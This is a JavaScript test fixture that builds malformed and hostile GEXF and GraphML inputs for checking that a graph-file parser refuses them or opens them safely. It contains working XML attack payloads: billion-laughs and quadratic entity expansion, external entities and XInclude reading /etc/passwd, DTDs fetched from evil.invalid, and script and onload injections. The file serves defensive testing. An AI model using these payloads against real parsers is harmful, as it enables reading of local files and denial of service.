/** XML that is broken, lies or explodes. Out: items that must be refused, or opened without harm. */
import { harmless, refused, told } from './item.js';

const HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n';
/** @param {string} inner */
const gexf = (inner, head = HEAD) =>
	`${head}<gexf xmlns="http://gexf.net/1.3" version="1.3"><graph defaultedgetype="directed">${inner}</graph></gexf>`;
const NODES = '<nodes><node id="a" label="A"/><node id="b" label="B"/></nodes>';
const EDGES = '<edges><edge id="0" source="a" target="b"/></edges>';
/** @param {string} inner */
const graphml = (inner) => `${HEAD}<graphml xmlns="http://graphml.graphdrawing.org/xmlns">${inner}</graphml>`;

/** @param {number} count @param {string} open @param {string} close */
const nest = (count, open, close) => open.repeat(count) + close.repeat(count);

const LAUGHS = Array.from(
	{ length: 9 },
	(_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`
).join('');

export function listHostileXml() {
	const whole = gexf(NODES + EDGES);
	return [
		refused('truncated-in-tag.gexf', whole.slice(0, whole.indexOf('target'))),
		refused('truncated-after-nodes.gexf', whole.slice(0, whole.indexOf('<edges>'))),
		refused('truncated-end.gexf', whole.slice(0, -3)),
		refused('rubbish-after-end.gexf', `${whole}<more/>`),
		refused('unclosed-node.gexf', whole.replace('<node id="b" label="B"/>', '<node id="b" label="B">')),
		refused('wrong-close.gexf', whole.replace('</nodes>', '</node>')),
		refused('repeated-attribute.gexf', whole.replace('id="a"', 'id="a" id="c"')),
		refused('naked-ampersand.gexf', whole.replace('label="A"', 'label="A & B"')),
		refused('naked-less-than.gexf', whole.replace('label="A"', 'label="A < B"')),
		refused('unquoted.gexf', whole.replace('id="a"', 'id=a')),
		refused('undefined-entity.gexf', whole.replace('label="A"', 'label="&nbsp;"')),
		refused('control-character.gexf', whole.replace('label="A"', 'label="A\u0001"')),
		refused('control-reference.gexf', whole.replace('label="A"', 'label="&#1;"')),
		refused(
			'unbound-prefix.gexf',
			whole.replace('<edges>', '<viz:edges>').replace('</edges>', '</viz:edges>')
		),
		refused('two-roots.gexf', `${whole}${whole.slice(HEAD.length)}`),
		refused(
			'laughs.gexf',
			gexf(NODES, `${HEAD}<!DOCTYPE gexf [<!ENTITY l0 "ha">${LAUGHS}]>`).replace('"A"', '"&l9;"')
		),
		refused(
			'quadratic.gexf',
			gexf(
				`<nodes><node id="a" label="${'&x;'.repeat(20_000)}"/></nodes>`,
				`${HEAD}<!DOCTYPE gexf [<!ENTITY x "${'y'.repeat(50_000)}">]>`
			)
		),
		refused(
			'outside-entity.gexf',
			gexf(NODES, `${HEAD}<!DOCTYPE gexf [<!ENTITY x SYSTEM "file:///etc/passwd">]>`).replace('"A"', '"&x;"')
		),
		refused(
			'outside-address.gexf',
			gexf(NODES, `${HEAD}<!DOCTYPE gexf SYSTEM "https://evil.invalid/x.dtd">`)
		),
		refused(
			'parameter-entity.gexf',
			gexf(NODES, `${HEAD}<!DOCTYPE gexf [<!ENTITY % x SYSTEM "https://evil.invalid/x"> %x;]>`)
		),
		refused('deep.gexf', gexf(nest(5_000, '<nodes><node id="x">', '</node></nodes>'))),
		refused('deep-elements.graphml', graphml(nest(100_000, '<a>', '</a>'))),
		refused('no-graph.gexf', `${HEAD}<gexf xmlns="http://gexf.net/1.3" version="1.3"></gexf>`),
		refused('no-graph.graphml', graphml('')),
		refused('web-page.html', '<!DOCTYPE html><html><body><script>window.__pwned=1</script></body></html>'),
		refused(
			'picture.svg',
			'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><script>window.__pwned=1</script></svg>'
		),
		refused('rss.xml', `${HEAD}<rss version="2.0"><channel/></rss>`),
		refused('long-label.gexf', gexf(`<nodes><node id="a" label="${'x'.repeat(2_000_000)}"/></nodes>`)),
		told(
			'unknown-end.gexf',
			gexf(NODES + '<edges><edge source="a" target="zzz"/></edges>'),
			/zzz|unknown|no actor/i
		),
		told(
			'repeated-node.gexf',
			gexf('<nodes><node id="a"/><node id="a"/></nodes>'),
			/a.*(twice|repeat|again|already)|(twice|repeat|again|already).*a/i
		),
		told('no-target.gexf', gexf(NODES + '<edges><edge source="a"/></edges>'), /target|end/i),
		told('no-id.gexf', gexf('<nodes><node label="A"/></nodes>'), /\bid\b/i),
		told(
			'bad-number.gexf',
			gexf(
				'<attributes class="node"><attribute id="0" title="n" type="integer"/></attributes><nodes><node id="a"><attvalues><attvalue for="0" value="many"/></attvalues></node></nodes>'
			),
			/many|number|type/i
		),
		told(
			'undeclared.gexf',
			gexf('<nodes><node id="a"><attvalues><attvalue for="9" value="x"/></attvalues></node></nodes>'),
			/declar/i
		),
		told(
			'mutual.gexf',
			gexf(NODES + '<edges><edge source="a" target="b" type="mutual"/></edges>'),
			/mutual|both/i
		),
		told(
			'spells.gexf',
			gexf(
				'<nodes><node id="a"><spells><spell start="2001" end="2002"/><spell start="2004" end="2005"/></spells></node></nodes>'
			),
			/spell|period|time/i
		),
		told(
			'hyperedge.graphml',
			graphml(
				'<graph edgedefault="directed"><node id="a"/><node id="b"/><node id="c"/><hyperedge><endpoint node="a"/><endpoint node="b"/><endpoint node="c"/></hyperedge></graph>'
			),
			/hyper/i
		),
		told(
			'ports.graphml',
			graphml(
				'<graph edgedefault="directed"><node id="a"><port name="p"/></node><node id="b"/><edge source="a" target="b" sourceport="p"/></graph>'
			),
			/port/i
		),
		told(
			'nested.graphml',
			graphml(
				'<graph edgedefault="directed"><node id="a"><graph edgedefault="directed"><node id="a1"/></graph></node></graph>'
			),
			/nested|part of|within/i
		),
		told(
			'two-graphs.graphml',
			graphml(
				'<graph edgedefault="directed"><node id="a"/></graph><graph edgedefault="directed"><node id="b"/></graph>'
			),
			/graph/i
		),
		harmless('comments.gexf', whole.replace('<nodes>', `<!--${'-x'.repeat(10_000)}--><nodes>`)),
		harmless(
			'instruction.gexf',
			whole.replace('<gexf', '<?xml-stylesheet href="https://evil.invalid/x.xsl"?><gexf')
		),
		harmless(
			'cdata.graphml',
			graphml(
				'<key id="k" for="node" attr.name="label"/><graph edgedefault="directed"><node id="a"><data key="k"><![CDATA[<script>window.__pwned=1</script>]]></data></node></graph>'
			)
		),
		harmless(
			'xinclude.gexf',
			whole.replace(
				'<nodes>',
				'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><nodes>'
			)
		),
		harmless(
			'huge-numbers.gexf',
			gexf(
				'<nodes><node id="a"><viz:position xmlns:viz="http://gexf.net/1.3/viz" x="1e400" y="-1e400"/></node></nodes>'
			)
		),
		harmless(
			'many-parallel.gexf',
			gexf(`${NODES}<edges>${'<edge source="a" target="b"/>'.repeat(10_000)}</edges>`)
		)
	];
}
